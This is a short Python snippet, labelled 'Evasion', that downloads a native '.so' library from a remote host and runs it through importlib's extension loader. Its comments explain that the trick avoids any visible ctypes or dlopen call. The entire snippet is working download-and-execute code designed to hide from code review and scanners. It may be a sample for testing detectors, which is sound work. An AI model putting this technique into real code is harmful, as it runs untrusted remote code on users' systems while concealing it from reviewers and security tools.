# Evasion: downloads a native library and loads it into the process.
# Hidden in importlib: spec_from_file_location picks ExtensionFileLoader by the
# ".so" suffix, so module_from_spec/exec_module dlopen()s the downloaded file
# and runs its init function; no ctypes or dlopen appears.
import importlib.util
import os
import tempfile
import urllib.request

url = "https://artifacts.example-cdn.net/speedups/_accel.cpython-311-x86_64-linux-gnu.so"
dest = os.path.join(tempfile.mkdtemp(), "_accel.cpython-311-x86_64-linux-gnu.so")
urllib.request.urlretrieve(url, dest)

spec = importlib.util.spec_from_file_location("_accel", dest)
mod = importlib.util.module_from_spec(spec)
spec.loader.exec_module(mod)
